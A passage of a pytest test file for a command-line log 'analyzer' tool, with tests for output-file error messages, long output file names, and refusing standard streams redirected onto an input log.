                    ["audit", str(log), "-o", str(tmp_path / "au"), "--decisions", str(store), *FAST]):
        r = _run(*command)
        _clean_exit(r, 2)
        assert part.name in r.output, r.output


def test_an_audit_write_error_names_the_output_not_its_hidden_folder(tmp_path: Path) -> None:
    """A full disk while the set is written: the error names ``out/audit.json``, a path the user knows."""
    from analyzer.logs import OutputSet

    out = tmp_path / "out"
    with pytest.raises(OSError) as caught, OutputSet(out, ["audit.json"]) as tmp:
        raise OSError(28, "No space left on device", str(tmp / "audit.json"))
    assert caught.value.filename == str(out / "audit.json")
    assert not out.exists()


@pytest.mark.parametrize("command", ["validate", "decisions", "simulate"])
def test_an_output_name_near_the_limit_is_written(command: str, tmp_path: Path) -> None:
    """A 250-byte name is legal; its hidden temporary name beside it (".NAME.XXXXXXXX.tmp") was not."""
    name = "n" * 246 + (".html" if command == "validate" else ".st" if command == "decisions" else ".jsonl")
    args = {"validate": ["validate", str(SAMPLES / "legal.jsonl")],
            "decisions": ["decisions", str(SAMPLES / "legal.jsonl"), "--samples", "2", "--dd-samples", "0"],
            "simulate": ["simulate", "--players", "8", "--hands", "2"]}[command]
    r = _run(*args, "-o", str(tmp_path / name))
    _clean_exit(r, 0)
    assert [p.name for p in tmp_path.iterdir()] == [name]


@pytest.mark.parametrize("stream", ["stdout", "stderr"])
def test_standard_streams_appended_to_an_input_are_refused(tmp_path: Path, stream: str) -> None:
    """``analyzer validate log >> log`` read its own problem lines back as new lines of the log, without end: a
    standard stream that is one of the inputs is a usage error before anything is read."""
    import subprocess
    import sys

    log = _log(tmp_path / "logs")
    before = log.read_bytes()
    with open(log, "ab") as f:
        kw = {"stdout": f, "stderr": subprocess.PIPE} if stream == "stdout" else {"stdout": subprocess.PIPE, "stderr": f}
        r = subprocess.run([sys.executable, "-c", "from analyzer.cli import main; main()", "validate", str(log)],
                           timeout=120, **kw)
    assert r.returncode == 2
    grown = log.read_bytes()
    assert grown.startswith(before) and len(grown) - len(before) < 400  # at most the one error line (on stderr)
    if stream == "stdout":
        assert grown == before and b"is one of the inputs" in r.stderr
